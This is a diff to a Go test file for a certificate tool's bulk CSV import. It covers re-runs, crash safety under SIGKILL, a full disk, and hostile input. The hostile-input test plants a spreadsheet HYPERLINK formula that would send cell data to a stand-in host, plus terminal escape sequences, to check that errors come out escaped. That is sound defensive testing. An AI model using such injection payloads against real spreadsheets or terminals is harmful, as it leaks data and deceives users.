@@ -6,6 +6,7 @@ import (
 	"math/rand/v2"
 	"os"
 	"os/exec"
+	"path/filepath"
 	"strings"
 	"syscall"
 	"testing"
@@ -13,6 +14,8 @@ import (
 
 	"certdesk/core/engine"
 	"certdesk/core/peer/peertest"
+
+	"software.sslmate.com/src/go-pkcs12"
 )
 
 func TestBulkFromCSV(t *testing.T) {
@@ -57,8 +60,40 @@ func TestBulkFromCSV(t *testing.T) {
 	if n := len(decodeJSON[[]map[string]any](t, s.ok("list", "--json"))); n != 5 {
 		t.Errorf("%d certificates, want the CA, 3 people and Eve", n)
 	}
-	s.fails(1, "already exists: choose an empty folder", "bulk", "--csv", dup, "--out", s.path("out2"))
+	// A re-run into the same folder appends to its sheet: Eve is on it
+	// already, Bob holds a certificate delivered elsewhere.
+	out, errOut, code = s.run("bulk", "--csv", dup, "--out", s.path("out2"))
+	if code != 1 || !strings.Contains(out, "1 row(s) were delivered to this folder by an earlier run") || strings.Contains(errOut, "row 1 ") || !strings.Contains(errOut, "row 3 (Bob): already holds") {
+		t.Errorf("re-run: exit %d\n%s%s", code, out, errOut)
+	}
+	os.MkdirAll(s.path("out4"), 0o700)
+	s.write("out4/passwords.csv", "not,a,sheet\n")
+	s.fails(1, "is not a Certdesk password sheet", "bulk", "--csv", dup, "--out", s.path("out4"))
 	s.fails(1, "holds no people", "bulk", "--csv", s.write("empty.csv", "name,email\n"), "--out", s.path("out3"))
+}
+
+// TestBulkHostileCSV: a bare quote is an error naming its line (it used to
+// panic in encoding/csv), and names full of terminal escapes or 50 MB long
+// reach stderr escaped and shortened.
+func TestBulkHostileCSV(t *testing.T) {
+	t.Parallel()
+	s := newSession(t)
+	s.ok("init", "--insecure-no-passphrase")
+	s.ok("ca", "create", "Team CA")
+	bare := s.write("bare.csv", "Ann,ann@example.com\n=HYPERLINK(\"http://x/\"&A2),a@example.com\n")
+	_, errOut, code := s.run("bulk", "--csv", bare, "--out", s.path("out"))
+	if code != 1 || !strings.Contains(errOut, "line 2") || strings.Contains(errOut, "panic") {
+		t.Fatalf("exit %d\n%s", code, errOut)
+	}
+	huge := strings.Repeat("\x1b[2J\x1b]0;owned\x07", 10) + strings.Repeat("N", 50<<20)
+	hostile := s.write("hostile.csv", huge+",bad-address\n\x1b[31mRed\x1b[0m,also-bad\n")
+	_, errOut, code = s.run("bulk", "--csv", hostile, "--out", s.path("out2"))
+	if code != 1 || !strings.Contains(errOut, `row 2 (\x1B[31mRed\x1B[0m)`) {
+		t.Errorf("exit %d, stderr %.500q", code, errOut)
+	}
+	if strings.ContainsAny(errOut, "\x1b\x07") || len(errOut) > 16<<10 {
+		t.Errorf("stderr holds raw escapes or is %d bytes: %.300q", len(errOut), errOut)
+	}
 }
 
 // TestCrashSafety kills `certctl bulk` with SIGKILL at random moments; after
@@ -250,5 +285,108 @@ func TestRenewKeepingKey(t *testing.T) {
 	}
 	if revoked := decodeJSON[[]map[string]any](t, s.ok("list", "--status", "revoked", "--json")); len(revoked) != 1 {
 		t.Errorf("%d revoked, want the old certificate", len(revoked))
+	}
+}
+
+// TestBulkKilledThenRerun kills `certctl bulk` with SIGKILL at random
+// moments, re-running the same command into the same folder each time,
+// then lets it finish: every person ends with exactly one certificate and
+// one line on the sheet, whose PKCS#12 opens with its password (openssl
+// checks a sample) — nothing issued is left undelivered.
+func TestBulkKilledThenRerun(t *testing.T) {
+	t.Parallel()
+	bin := certctlBinary(t)
+	openssl := peertest.Require(t, "openssl")
+	s := newSession(t)
+	s.ok("init", "--insecure-no-passphrase")
+	s.ok("ca", "create", "Rerun CA")
+	const people = 1000
+	var b strings.Builder
+	for i := range people {
+		fmt.Fprintf(&b, "Person %d,p%d@example.com\n", i, i)
+	}
+	csvFile := s.write("people.csv", b.String())
+	out := s.path("out")
+	for k := range 4 {
+		cmd := exec.Command(bin, "bulk", "--csv", csvFile, "--out", out)
+		cmd.Env = append(os.Environ(), "CERTDESK_VAULT="+s.vars["CERTDESK_VAULT"])
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		time.Sleep(time.Duration(150+rand.IntN(1200)) * time.Millisecond)
+		cmd.Process.Signal(syscall.SIGKILL)
+		cmd.Wait()
+		sheet, _ := os.ReadFile(filepath.Join(out, "passwords.csv"))
+		t.Logf("kill %d: %v; %d lines on the sheet", k+1, cmd.ProcessState, strings.Count(string(sheet), "\n"))
+	}
+	// The last run finishes; rows delivered before are refused, the rest
+	// delivered.
+	s.run("bulk", "--csv", csvFile, "--out", out)
+	f, err := os.Open(filepath.Join(out, "passwords.csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(f).ReadAll()
+	f.Close()
+	if err != nil {
+		t.Fatalf("the sheet is not valid CSV after the kills: %v", err)
+	}
+	names := map[string]int{}
+	for _, r := range rows[1:] {
+		names[r[0]]++
+		data, err := os.ReadFile(filepath.Join(out, r[2]))
+		if err != nil {
+			t.Fatalf("%s: %v", r[2], err)
+		}
+		if _, _, _, err := pkcs12.DecodeChain(data, r[3]); err != nil {
+			t.Errorf("%s does not open with its sheet password: %v", r[2], err)
+		}
+	}
+	for i := range people {
+		if n := names[fmt.Sprintf("Person %d", i)]; n != 1 {
+			t.Errorf("Person %d is on the sheet %d times", i, n)
+		}
+	}
+	for _, r := range rows[1:min(len(rows), 11)] {
+		peertest.Run(t, openssl, "pkcs12", "-in", filepath.Join(out, r[2]), "-passin", "pass:"+r[3], "-noout")
+	}
+	if n := len(decodeJSON[[]map[string]any](t, s.ok("list", "--json"))); n != people+1 {
+		t.Errorf("%d certificates, want the CA and one per person (%d)", n, people)
+	}
+}
+
+// TestBulkFullDisk runs `certctl bulk` onto a 24 KiB tmpfs: it exits 1,
+// names each row issued but not delivered, and keeps the sheet of those
+// delivered; after space is freed the same command delivers the rest and
+// exits 0.
+func TestBulkFullDisk(t *testing.T) {
+	t.Parallel()
+	s := newSession(t)
+	s.ok("init", "--insecure-no-passphrase")
+	s.ok("ca", "create", "Team CA")
+	var b strings.Builder
+	for i := range 20 {
+		fmt.Fprintf(&b, "Person %d,p%d@example.com\n", i, i)
+	}
+	csvFile := s.write("team.csv", b.String())
+	mnt := peertest.Tmpfs(t, "24k")
+	out := filepath.Join(mnt, "out")
+	stdout, stderr, code := s.run("bulk", "--csv", csvFile, "--out", out)
+	named := strings.Count(stderr, "issued but not delivered: certificate")
+	sheet, _ := os.ReadFile(filepath.Join(out, "passwords.csv"))
+	onSheet := strings.Count(string(sheet), "\n") - 1
+	t.Logf("24 KiB: %d on the sheet, %d named not delivered", onSheet, named)
+	if code != 1 || named == 0 || onSheet+named != 20 || !strings.Contains(stderr, "no space left on device") ||
+		!strings.Contains(stderr, fmt.Sprintf("%d certificate(s) were issued but not delivered", named)) {
+		t.Fatalf("exit %d, %d on the sheet, %d named\n%s%s", code, onSheet, named, stdout, stderr)
+	}
+	peertest.ResizeTmpfs(t, mnt, "4m")
+	stdout = s.ok("bulk", "--csv", csvFile, "--out", out)
+	if want := fmt.Sprintf("Issued %d certificate(s), 0 row(s) failed", named); !strings.Contains(stdout, want) || !strings.Contains(stdout, fmt.Sprintf("%d row(s) were delivered to this folder by an earlier run", onSheet)) {
+		t.Errorf("re-run: %s, want %q", stdout, want)
+	}
+	sheet, _ = os.ReadFile(filepath.Join(out, "passwords.csv"))
+	if n := strings.Count(string(sheet), "\n") - 1; n != 20 {
+		t.Errorf("%d rows on the sheet after the re-run, want 20", n)
 	}
 }
